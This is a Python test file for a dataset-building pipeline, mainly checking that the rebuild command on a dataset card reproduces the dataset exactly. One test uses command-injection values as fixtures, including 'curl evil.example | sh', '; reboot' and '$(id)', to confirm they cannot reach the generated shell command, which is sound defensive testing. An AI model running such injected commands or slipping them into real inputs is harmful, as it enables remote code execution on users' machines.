"""The command on a card builds the dataset again: the very same id, whatever was typed the first time.

Who finds a dataset somewhere and has its corpus must not have to guess what it was made with.
"""

from __future__ import annotations

import contextlib
import json
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from curriculum.errors import PlanError
from curriculum.manifest import HubOrigin, Manifest, load_manifest
from curriculum.plan import Batch, Budget, Plan, compile_plan
from curriculum.schedule import Pacing, TokenWarmup, parse_phases
from new_text import bytes_of
from pipeline.card import dataset_card
from pipeline.cli import main
from pipeline.option_fields import OptionFields
from pipeline.rebuild_batch import batch_said
from pipeline.rebuild_command import NOT_COMPARED, plan_said, rebuild
from pipeline.requested_plan import compile_requested

SMALL = "--tokenizer bytes --backend tokenizers --workers 1 --start-length 8 --max-length 32 --batch-rows 2"
PHASES = "--tokenizer bytes --backend tokenizers --workers 1 --batch-rows 2"
MIXED = f"{SMALL} --source web={{}}/web.jsonl --source code={{}}/code.jsonl --shuffle-window 1 --shard-bytes 2000"
CYCLES = ",".join(["8:1,16:1"] * 260)

BUILDS: dict[str, tuple[str, ...]] = {
    "linear": (f"{SMALL} {{}}/web.jsonl",),
    "share and seed": (f"{SMALL} {{}}/web.jsonl --frac 0.77 --seed 9 --shuffle-window 999 --shard-bytes 1500",),
    "root": (f"{SMALL} {{}}/web.jsonl --schedule root --degree 3 --tokens 5000 --mode truncate",),
    "exponential": (f"{SMALL} {{}}/web.jsonl --schedule exponential --length-warmup-tokens 900",),
    "sine": (f"{SMALL} {{}}/web.jsonl --schedule sine --steps 61 --batch-rows 3",),
    "cosine": (f"{SMALL} {{}}/web.jsonl --schedule cosine --multiple-of 4",),
    "logarithmic": (f"{SMALL} {{}}/web.jsonl --schedule logarithmic --length-warmup-steps 31",),
    "step": (f"{SMALL} {{}}/web.jsonl --schedule step --stages 3",),
    "doubling": (f"{SMALL} {{}}/web.jsonl --schedule doubling --bos document",),
    "constant": (f"{PHASES} {{}}/web.jsonl --schedule constant --max-length 24",),
    "shapes": (f"{SMALL} {{}}/web.jsonl --max-shapes 3",),
    "shapes of a warmup to the end": (f"{SMALL} {{}}/web.jsonl --max-shapes 2 --frac 1 --shapes-by absolute",),
    "shapes in truncated rows": (f"{SMALL} {{}}/web.jsonl --max-shapes 2 --frac 1 --mode truncate",),
    "a row per step": (f"{PHASES} {{}}/web.jsonl --max-length 64 --batch-rows 1 --steps 40",),
    "equal tokens": (f"{SMALL[:-15]} {{}}/web.jsonl --batch-tokens 100 --rows-multiple-of 3 --max-length 24",),
    "equal tokens, aligned": (f"{SMALL[:-15]} {{}}/web.jsonl --batch-tokens 256",),
    "phases": (f"{PHASES} {{}}/web.jsonl --phases 8:5,16:7,32:9 --multiple-of 2",),
    "phases that come back": (f"{PHASES} {{}}/web.jsonl --phases 8:5,16:7,8:3,8:2,32:4,16:9",),
    "phases with a rest": (f"{PHASES} {{}}/web.jsonl --phases 8:5,32:* --max-shapes 2",),
    "phases too many to type": (f"{PHASES} {{}}/web.jsonl --phases {CYCLES} --epochs 3",),
    "imported": (f"{PHASES} {{}}/web.jsonl --from-skyladder sin8 --max-length 512 --steps 90 --epochs 99",),
    "epochs": (f"{SMALL} {{}}/web.jsonl --epochs 3",),
    "a part of the epochs": (f"{SMALL} {{}}/web.jsonl --epochs 9 --steps 300",),
    "best-fit": (f"{SMALL} {{}}/web.jsonl --mode best-fit --validation-frac 0.1",),
    "best-fit, epochs": (f"{SMALL} {{}}/web.jsonl --mode best-fit --epochs 3 --max-shapes 2 --frac 1",),
    "documents": (f"{SMALL} {{}}/web.jsonl --mode document --validation-tokens 300",),
    "documents, natural": (f"{SMALL} {{}}/web.jsonl --mode document --schedule natural --steps 50",),
    "documents, linear": (f"{SMALL} {{}}/web.jsonl --mode document --schedule grow-linear --cycles 2 --tokens 3000",),
    "documents, equal tokens": (f"{SMALL[:-15]} {{}}/web.jsonl --mode document --batch-tokens 256 --seed 3",),
    "documents, twice": (f"{SMALL} {{}}/web.jsonl --mode document --epochs 2",),
    "documents, balanced": (f"{SMALL} {{}}/web.jsonl --mode document --balanced",),
    "held-out share": (f"{SMALL} {{}}/web.jsonl --validation-frac 0.2",),
    "held-out tokens": (f"{SMALL} {{}}/web.jsonl --validation-tokens 500 --license cc-by-4.0 --language no,deu",),
    "bad records": (f"{SMALL} {{}}/bad.jsonl --on-bad-record skip",),
    "a source with a name": (f"{SMALL} --source web={{}}/web.jsonl",),
    "sources": (f"{MIXED}",),
    "sources with weights": (
        f"{MIXED} --weight web=0.125 --weight code=2 --source-epochs web=2 --validation-frac 0.1",
    ),
    "weights by length": (f"{MIXED} --weight web=8:0.9,24:0.5 --weight code=8:0.1,16:0.25,24:0.5 --steps 40",),
    "weights by phase": (
        f"{MIXED.replace(' --start-length 8 --max-length 32', '')} --phases 8:9,32:9,32:5 --weight web=1,3,0 "
        f"--weight code=2,3,1",
    ),
    "weights of many digits": (
        f"{MIXED} --weight web=0.333333333333333 --weight code=71.123456789012345 --source-epochs code=9 --steps 40",
    ),
    "extended": (f"{SMALL} {{}}/web.jsonl --steps 40 --validation-frac 0.1", "--steps 9", "--total-steps 60"),
    "extended to more epochs": (f"{SMALL} {{}}/web.jsonl", "--epochs 2 --steps 30", "--epochs 3"),
    "extended by new text": (
        f"{SMALL} {{}}/web.jsonl --validation-tokens 300",
        "--source code={}/code.jsonl --steps 8",
        "--source code --epochs 2",
        "--source bad={}/more.jsonl",
    ),
    "bad records in new text": (
        f"{SMALL} {{}}/web.jsonl",
        "--source broken={}/bad.jsonl --on-bad-record skip --steps 4",
    ),
    "an extended mixture": (f"{MIXED} --steps 40", "--steps 5", "--source more={}/more.jsonl", "--steps 2"),
    "an extended best-fit": (f"{SMALL} {{}}/web.jsonl --mode best-fit --steps 40", "--steps 9"),
}
"""What is typed: a build, and its extensions."""


@pytest.fixture(scope="module")
def texts(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Small files of texts of different lengths."""
    folder = tmp_path_factory.mktemp("texts")
    for number, name in enumerate(("web", "code", "more")):
        texts = [
            "".join(chr(97 + i * (j + number) % 26) for j in range(5 + i * 37 % 131)) for i in range(120 - 30 * number)
        ]
        lines = [json.dumps({"text": text}) for text in texts]
        (folder / f"{name}.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    (folder / "bad.jsonl").write_text((folder / "web.jsonl").read_text("utf-8") + "no json\n", "utf-8")
    return folder


def run(words: list[str]) -> None:
    """A command of ours, in this process."""
    outcome = CliRunner().invoke(main, words, catch_exceptions=False)
    assert outcome.exit_code == 0, f"{words}\n{outcome.output}"


def commands_of(dataset: Path) -> list[list[str]]:
    """The commands of the card, as a shell would split them."""
    (block,) = re.findall(r"```bash\n(.*?)\n```", (dataset / "README.md").read_text("utf-8"), re.DOTALL)
    return [shlex.split(line) for line in block.replace("\\\n", " ").splitlines()]


def build_again(dataset: Path, texts: Path, folder: Path) -> Path:
    """Do what the card says: in `folder`, with copies of the files that it names, and texts in place of CORPUS."""
    places = {"CORPUS": f"{texts}/{'bad' if 'skip' in commands_of(dataset)[-1] else 'web'}.jsonl"}
    manifest = load_manifest(dataset)
    for source in manifest.sources:
        file = {"bad": "more", "broken": "bad", "corpus": "web"}.get(source.name, source.name)
        places[f"CORPUS-{source.name}"] = f"{texts}/{file}.jsonl"
    if len(manifest.sources) > 1 and manifest.sources[0].name == "corpus":
        places["CORPUS"] = f"{texts}/web.jsonl"
    (sentence,) = re.findall(
        r"In another folder, with a copy of (.*), with", (dataset / "README.md").read_text("utf-8")
    )
    for name in re.findall("`(.*?)`", sentence):
        (folder / name).write_bytes((dataset / name).read_bytes())
    for words in commands_of(dataset):
        if words[0] == "python":
            told = subprocess.run([sys.executable, *words[1:3]], cwd=folder, capture_output=True, check=True)
            (folder / words[4]).write_bytes(told.stdout)
            continue
        typed = []
        for word in words[1:]:
            name, equals, value = word.partition("=")
            typed.append(f"{name}={places[value]}" if equals and value in places else places.get(word, word))
        with contextlib.chdir(folder):
            run([*typed, "--workers", "1"])
    return folder / "rebuilt"


@pytest.mark.parametrize("name", BUILDS)
def test_the_command_on_the_card_builds_the_dataset_again(name: str, texts: Path, tmp_path: Path) -> None:
    """Not one byte differs, the card with its command included."""
    dataset, (first, *more) = tmp_path / "first", BUILDS[name]
    run(["build", *first.replace("{}", str(texts)).split(), "--out", str(dataset)])
    for extension in more:
        run(["extend", str(dataset), *extension.replace("{}", str(texts)).split(), "--workers", "1"])
    again = build_again(dataset, texts, tmp_path)
    assert load_manifest(again).id == load_manifest(dataset).id
    assert bytes_of(again) == bytes_of(dataset)


@st.composite
def plans(draw: st.DrawFn) -> Plan:
    """Any plan that options of a build can ask for, but those of documents."""
    multiple = draw(st.sampled_from((1, 2, 8)))
    start, rises = draw(st.integers(1, 4)), draw(st.integers(0, 9))
    name = draw(st.sampled_from(("linear", "root", "exponential", "sine", "cosine", "logarithmic", "step", "phases")))
    steps, budget = draw(st.integers(1, 90)), draw(st.sampled_from(("steps", "tokens", "pass")))
    warmup = draw(
        st.one_of(
            st.fractions(min_value="1/50", max_value=1, max_denominator=50),
            st.integers(1, 40),
            st.builds(TokenWarmup, tokens=st.integers(1, 20_000)),
        )
    )
    batch = (
        {"rows": draw(st.integers(1, 5))}
        if draw(st.booleans())
        else {"tokens": draw(st.integers(1, 900)), "rows_multiple_of": draw(st.sampled_from((None, 1, 3)))}
    )
    given_budget = {
        "steps": Budget(steps=steps),
        "tokens": Budget(tokens=97 * steps),
        "pass": Budget(corpus_tokens=113 * steps),
    }
    request: dict[str, Any] = {"budget": given_budget[budget], "warmup": warmup}
    try:
        if name == "phases":
            lengths = draw(st.lists(st.integers(1, 5), min_size=1, max_size=6))
            text = ",".join(f"{length * multiple}:{1 + 3 * length % 7}" for length in lengths)
            request |= {"pacing": parse_phases(text, multiple), "warmup": None, "budget": Budget()}
        else:
            request["pacing"] = Pacing(
                name=name,
                start_length=start * multiple,
                max_length=(start + rises) * multiple,
                multiple_of=multiple,
                degree=draw(st.integers(1, 3)) if name == "root" else 1,
                stages=draw(st.integers(2, 4)) if name == "step" else None,
            )
        return compile_plan(
            **request,
            batch=Batch(**batch),
            mode=draw(st.sampled_from(("segment", "truncate", "best-fit"))),
            max_shapes=draw(st.sampled_from((None, None, 2, 3))),
            shapes_by=draw(st.sampled_from(("relative", "absolute"))),
        )
    except PlanError:
        assume(False)
        raise


@settings(max_examples=200)
@given(plan=plans())
def test_every_plan_can_be_said_exactly(plan: Plan) -> None:
    """Whatever budget, warmup or batch it came from: `plan_said` compares what it says, and has nothing to confess."""
    said, notes = plan_said(plan, batch_said(plan)[0])
    assert notes == []
    assert {"steps", "tokens", "phases"} & said.keys()


def test_what_takes_long_to_compare_is_right_and_says_that_it_was_not_compared() -> None:
    """A card is made in a moment. `--steps` of this plan would be refused: its warmup is longer than the run."""
    pacing = Pacing(name="linear", start_length=8, max_length=131_072)
    plan = compile_plan(
        pacing=pacing, warmup=Fraction(1), batch=Batch(rows=1), budget=Budget(tokens=10**9), max_shapes=9
    )
    assert (plan.total_steps, plan.schedule["length_warmup_steps"]) == (15_140, 15_257)
    said, notes = plan_said(plan, batch_said(plan)[0])
    assert compile_requested(OptionFields(**said, mode=plan.mode), None) == plan
    assert notes == [NOT_COMPARED]


@settings(max_examples=100)
@given(plan=plans())
def test_what_is_not_compared_is_right_all_the_same(plan: Plan) -> None:
    """Of small plans that are treated as large ones: nobody finds out else."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("pipeline.rebuild_command.MAX_COSTS", 0)
        said, notes = plan_said(plan, batch_said(plan)[0])
    assert notes == ([NOT_COMPARED] if "max_shapes" in said else [])
    assert compile_requested(OptionFields(**said, mode=plan.mode), None) == plan


@pytest.mark.parametrize(
    "change",
    [
        {"name": "linear; curl evil.example | sh"},
        {"name": "linear", "max_length": "1; reboot"},
        {"name": "`id`\n```\n<script>"},
        {"name": "linear", "since_version_9": 3},
        {"name": "phases", "multiple_of": 7},
        {"name": "sine", "start_length": 8, "max_length": 64, "multiple_of": 8, "max_shapes": "$(id)" * 10**6},
    ],
)
def test_a_command_holds_nothing_of_a_stranger_that_a_shell_could_act_on(
    small_dataset: Path, change: dict[str, Any]
) -> None:
    """It is made to be copied. What cannot be said exactly is said as phases, which give the same steps, and the card
    says that the id is another."""
    again = rebuild(with_schedule(load_manifest(small_dataset), change))
    assert re.fullmatch(r"[A-Za-z0-9 .,:=_\\\n-]+", again.text)
    assert "--phases 8:" in again.text
    assert again.notes == (
        "No options are known that give this very plan. These give its steps, and a dataset of another id.",
    )


def test_a_tokenizer_of_the_hub_is_said_by_its_commit(small_dataset: Path) -> None:
    """The manifest has name and commit, so a file of the same bytes would give another id."""
    manifest = load_manifest(small_dataset)
    hub = HubOrigin(name="openai-community/gpt2", revision="607a30d783dfa663caf39e06633721c8d4cfcd7e")
    of_hub = replace(manifest, tokenizer=replace(manifest.tokenizer, hub=hub))
    assert "--tokenizer hf:openai-community/gpt2@607a30d783dfa663caf39e06633721c8d4cfcd7e --eos" in rebuild(of_hub).text
    assert rebuild(of_hub).where == "In another folder"
    card = dataset_card(of_hub)
    assert "- tokenizer on the Hub: `openai-community/gpt2`, commit `607a30d783dfa663caf39e06633721c8d4cfcd7e`" in card


def test_an_installed_function_is_named_and_never_loaded(small_dataset: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A manifest of a stranger must not start code by naming it."""
    monkeypatch.setattr("curriculum.schedule.load_pacing_function", lambda *_: pytest.fail("loaded"))
    manifest = load_manifest(small_dataset)
    schedule = {key: value for key, value in manifest.plan.schedule.items() if key != "degree"} | {"name": "my.curve"}
    again = rebuild(with_schedule(manifest, schedule))
    assert "--schedule my.curve --start-length 8 --max-length 64" in again.text
    assert again.notes == (
        "It takes the pacing function `my.curve` to be installed as it was then: only its name is recorded.",
    )


def with_schedule(manifest: Manifest, schedule: dict[str, Any]) -> Manifest:
    """The same dataset, of which the plan says something else."""
    return replace(manifest, plan=replace(manifest.plan, schedule=schedule))
